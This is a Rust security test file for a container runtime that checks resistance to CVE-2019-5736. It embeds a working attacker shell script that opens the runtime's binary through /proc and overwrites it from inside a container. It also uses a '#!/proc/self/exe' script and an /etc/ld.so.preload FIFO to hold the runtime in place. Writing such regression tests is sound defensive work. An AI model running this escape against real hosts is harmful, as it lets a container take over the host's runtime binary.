//! CVE-2019-5736: a process in the container opens the runtime binary
//! through /proc/<pid>/exe of a runtime process that has entered the
//! container (the init waiting at the start barrier, an `exec`, or the
//! runtime re-run by a `#!/proc/self/exe` script), then reopens that fd for
//! writing once the runtime exits and overwrites the host's binary.
//!
//! The tests run a private copy of the runtime (the attack, when it works,
//! destroys the binary) and compare its sha256 before and after.

mod security_common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use security_common::*;

/// The attacker: find a process whose exe is not busybox (a runtime
/// process in our pid namespace), open its exe read-only as fd 3, then keep
/// trying to reopen /proc/self/fd/3 for writing (ETXTBSY while any
/// process still executes it) and overwrite it.
const ATTACKER: &str = r#"
found=
i=0
while [ -z "$found" ] && [ $i -lt 20000 ]; do
  for p in /proc/[0-9]*; do
    [ "$p" = "/proc/$$" ] && continue
    l=$(readlink $p/exe 2>/dev/null) || continue
    case "$l" in
      *busybox*|"") ;;
      *) if ( : < $p/exe ) 2>/dev/null; then exec 3< $p/exe && found="$p $l" && break; fi ;;
    esac
  done
  i=$((i+1)); [ $((i % 50)) = 0 ] && sleep 0.01
done
[ -n "$found" ] || { echo "never found a runtime process" > /tmp/status; [ -p /etc/ld.so.preload ] && ( echo > /etc/ld.so.preload ) & exit 0; }
echo "opened $found" > /tmp/status
# Let a runtime held by the FIFO /etc/ld.so.preload go on (see below).
[ -p /etc/ld.so.preload ] && ( echo > /etc/ld.so.preload ) &
i=0
while [ $i -lt 600 ]; do
  if ( printf '#!/bin/sh\necho PWNED\n' > /proc/self/fd/3 ) 2>/dev/null; then echo "overwrote $found" >> /tmp/status; exit 0; fi
  i=$((i+1)); sleep 0.05
done
echo "could not write" >> /tmp/status
"#;

fn status(rootfs: &Path) -> String {
    std::fs::read_to_string(rootfs.join("tmp/status")).unwrap_or_default()
}

fn attack_finished(rootfs: &Path) -> bool {
    let s = status(rootfs);
    s.contains("never found") || s.contains("overwrote") || s.contains("could not write")
}

/// CVE-2019-5736 via the start barrier: container B joins container A's
/// pid namespace; while B's init (a clone of the runtime) waits for
/// `start`, A's process opens /proc/<B init>/exe and, after `start`,
/// writes to it. The host binary must stay unchanged.
#[test]
fn cve_2019_5736_runtime_binary_not_writable_via_init_exe() {
    let mut env = Env::new();
    let bin = env.use_runtime_copy();
    let before = sha256(&bin);

    let a = env.bundle("attacker", &["sh", "-c", ATTACKER]);
    let ida = env.id("att");
    let o = env.run_detached(&a, &ida);
    assert!(o.ok, "run attacker: {o:?}");
    let apid = env.pid(&ida);

    let mut b = env.bundle("victim", &["sleep", "1"]);
    b.config["linux"]["namespaces"][0] =
        serde_json::json!({"type": "pid", "path": format!("/proc/{apid}/ns/pid")});
    let idb = env.id("vic");
    let o = env.create(&b, &idb);
    assert!(o.ok, "create victim: {o:?}");
    // Give the attacker time to find and open the waiting init's exe. When
    // the defence holds it never can (the init is non-dumpable), gives up
    // and exits, which ends its pid namespace and the victim with it.
    wait_for(Duration::from_secs(30), || {
        let s = status(&a.rootfs);
        s.contains("opened") || s.contains("never found")
    });
    if status(&a.rootfs).contains("opened") {
        let o = Out::from(env.rt(&["start", &idb]));
        assert!(o.ok, "start victim: {o:?}");
    }
    wait_for(Duration::from_secs(40), || attack_finished(&a.rootfs));
    let st = status(&a.rootfs);
    let after = sha256(&bin);
    let head: Vec<u8> = std::fs::read(&bin)
        .unwrap_or_default()
        .into_iter()
        .take(40)
        .collect();
    eprintln!(
        "attacker: {st}; binary now starts with {:?}",
        String::from_utf8_lossy(&head)
    );
    assert_eq!(
        before, after,
        "the runtime binary on the host was overwritten from inside the container: {st}"
    );
    assert!(std::fs::metadata(&bin).unwrap().permissions().mode() & 0o111 != 0);
}

/// Copy the runtime's dynamic loader and libraries into a rootfs, at the
/// same paths (an image with glibc has them anyway).
fn install_runtime_libs(rootfs: &Path) {
    let o = std::process::Command::new("ldd")
        .arg(runtime_bin())
        .output()
        .expect("ldd");
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let path = line.split_whitespace().find(|w| w.starts_with('/'));
        if let Some(p) = path {
            let dst = rootfs.join(p.trim_start_matches('/'));
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::copy(p, &dst).expect("copy library");
        }
    }
}

/// CVE-2019-5736, the original form: `exec` of a `#!/proc/self/exe`
/// script into a container where an attacker waits. The script's
/// interpreter, /proc/self/exe of the exec'd runtime clone, is the runtime
/// binary: it runs again inside the container. The image holds it there:
/// /etc/ld.so.preload is a FIFO, so the dynamic loader blocks reading it
/// until the attacker has opened /proc/<pid>/exe.
#[test]
fn cve_2019_5736_proc_self_exe_script_via_exec() {
    let mut env = Env::new();
    let bin = env.use_runtime_copy();
    let before = sha256(&bin);

    let a = env.bundle("attacker", &["sh", "-c", ATTACKER]);
    install_runtime_libs(&a.rootfs);
    std::fs::write(a.rootfs.join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        a.rootfs.join("evil"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let fifo = std::ffi::CString::new(
        a.rootfs
            .join("etc/ld.so.preload")
            .into_os_string()
            .into_encoded_bytes(),
    )
    .unwrap();
    // SAFETY: valid C string.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0, "mkfifo");
    let ida = env.id("att");
    let o = env.run_detached(&a, &ida);
    assert!(o.ok, "run attacker: {o:?}");
    let o = Out::from(env.rt(&["exec", &ida, "/evil"]));
    wait_for(Duration::from_secs(40), || attack_finished(&a.rootfs));
    let st = status(&a.rootfs);
    let after = sha256(&bin);
    eprintln!("attacker: {st}; exec: {o:?}");
    assert_eq!(before, after, "the runtime binary on the host was overwritten from inside the container: {st} (exec: {o:?})");
}
